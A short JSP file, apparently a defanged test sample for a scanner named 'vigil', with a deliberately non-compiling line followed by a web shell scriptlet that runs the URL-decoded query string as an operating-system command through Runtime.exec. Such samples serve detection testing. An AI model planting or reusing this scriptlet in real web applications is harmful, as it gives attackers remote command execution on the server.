<%-- DEFANGED vigil test sample (see README): the next scriptlet does not compile. --%>
<% DEFANGED_SAMPLE_DOES_NOT_COMPILE %>
<%
Object o = Runtime.getRuntime();
String q = request.getQueryString();
((Runtime) o).exec(java.net.URLDecoder.decode(q, "UTF-8"));
%>
